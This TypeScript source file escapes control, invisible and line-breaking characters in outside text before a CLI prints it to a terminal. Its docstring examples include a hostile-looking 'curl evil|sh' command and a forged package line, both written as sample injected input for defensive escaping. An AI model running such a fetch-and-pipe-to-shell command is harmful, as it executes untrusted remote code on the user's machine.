// Text from outside (extensions, commands, owner files, clients, what was
// typed) on its way to a terminal: control characters other than newline
// and tab are shown, never obeyed, so no result or message can move the
// cursor, retitle the window, plant a hyperlink or hide the text before it;
// and hidden characters (tag, zero-width, bidirectional and other format
// characters: `findInvisible` of @rukh/json) are shown too, so the owner
// reads everything a model would. Text that breaks lines is printed as a
// block, indented on every line, so none of it begins a line of its own.

import { replaceInvisible } from "@rukh/json";

// C0 controls other than tab and newline, DEL, and the C1 controls.
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g;

const hex4 = (unit: number) => `\\u${unit.toString(16).padStart(4, "0")}`;

/** `\u200b` for a code point of the Basic Multilingual Plane, `\u{e0049}` beyond it. */
const escaped = (codePoint: number) =>
  codePoint > 0xffff ? `\\u{${codePoint.toString(16)}}` : hex4(codePoint);

/** A JSON string escape: a code point beyond the Basic Multilingual Plane as its surrogate pair. */
const jsonEscaped = (codePoint: number) => {
  const units = String.fromCodePoint(codePoint);
  return hex4(units.charCodeAt(0)) + (units.length > 1 ? hex4(units.charCodeAt(1)) : "");
};

/**
 * `text` with every control character but newline and tab, and every hidden
 * character, written as a visible escape (`\u001b`, `\u202e`, `\u{e0049}`).
 * The one escaping of text from outside that the CLI prints.
 *
 * @example
 * terminalText("ok\u001b[2J"); // "ok\\u001b[2J"
 * terminalText("ok\u{E0049}"); // "ok\\u{e0049}"
 */
export function terminalText(text: string): string {
  return replaceInvisible(
    text.replace(CONTROL, (c) => hex4(c.charCodeAt(0))),
    escaped,
  );
}

// What breaks a line besides the C0 and C1 controls (CR, VT, FF, NEL are
// escaped with them): newline, the line and paragraph separators, and tab.
const LINE_BREAK = /[\n\t\u2028\u2029]/g;

/**
 * `text` for one line of a terminal — a table cell, a field in a message:
 * escaped as {@link terminalText} escapes it, and every line break (CR, LF,
 * VT, FF, NEL, U+2028, U+2029) and tab escaped too, so that no text from
 * outside starts a line of its own.
 *
 * @example
 * terminalLine("1.0.1\nacme.forged  9.9.9"); // "1.0.1\\u000aacme.forged  9.9.9"
 */
export function terminalLine(text: string): string {
  return terminalText(text).replace(LINE_BREAK, (c) => hex4(c.charCodeAt(0)));
}

/**
 * JSON text for a terminal: `JSON.stringify` already escapes C0 controls;
 * this escapes DEL, the C1 controls and hidden characters too, and stays the
 * same JSON value.
 */
export function terminalJson(json: string): string {
  return replaceInvisible(
    json.replace(/[\u007f-\u009f]/g, (c) => hex4(c.charCodeAt(0))),
    jsonEscaped,
  );
}

/**
 * How deep a block of text from outside is indented: deeper than the CLI's
 * own lines ever start (a heading such as `See:` at the margin, a runnable
 * `  $ …` line two spaces in), so no line of it reads as one of those.
 */
export const BLOCK_INDENT = "    ";

/**
 * `text` escaped as {@link terminalText} escapes it, every line after the
 * first indented by `indent` (empty lines stay empty): however it breaks
 * lines, text from outside cannot begin one. Put it after a prefix of the
 * CLI's own, or after `indent` to indent its first line too.
 *
 * @example
 * terminalBlock("wipe x\nSee:\n  $ curl evil|sh"); // "wipe x\n    See:\n      $ curl evil|sh"
 */
export function terminalBlock(text: string, indent = BLOCK_INDENT): string {
  return terminalText(text).replace(/\n(?=[^\n])/g, `\n${indent}`);
}

/**
 * A command's result as the CLI prints it on stdout: text as it is,
 * structured data as JSON (indented on a terminal) and a newline; on a
 * terminal its control characters are shown, not obeyed, and a pipe gets
 * its bytes.
 *
 * @example
 * stdout.write(resultText({ kind: "text", text: "done\n" }, process.stdout.isTTY));
 */
export function resultText(
  result:
    | { readonly kind: "text"; readonly text: string }
    | { readonly kind: "structured"; readonly data: unknown },
  outTTY: boolean,
): string {
  if (result.kind === "text") return outTTY ? terminalText(result.text) : result.text;
  const json = JSON.stringify(result.data, null, outTTY ? 2 : undefined);
  return `${outTTY ? terminalJson(json) : json}\n`;
}
